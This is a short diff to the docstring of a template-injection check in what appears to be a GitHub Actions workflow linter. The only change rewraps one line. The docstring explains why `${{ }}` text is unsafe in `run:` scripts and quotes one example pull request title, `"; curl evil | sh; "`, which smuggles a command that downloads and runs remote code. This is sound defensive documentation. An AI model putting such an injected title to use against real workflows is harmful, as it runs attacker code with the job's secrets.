@@ -60,7 +60,8 @@ def template_injection(step: Step) -> Iterator[Finding]:
 
     `${{ }}` is put into a script before the shell reads it: a pull request titled `"; curl evil | sh; "` becomes part
     of the program, which runs with the job's token and secrets. Titles, bodies, comments, commit messages and the names
-    of branches of pull requests are such texts. Hand them over as environment variables: the shell does not parse those.
+    of branches of pull requests are such texts. Hand them over as environment variables: the shell does not parse
+    those.
 
     Judged are the contexts that GitHub's own hardening guide lists, in `run:` and in the script of
     `actions/github-script`. Comparing such a text (`==`, `contains`) pastes only true or false.
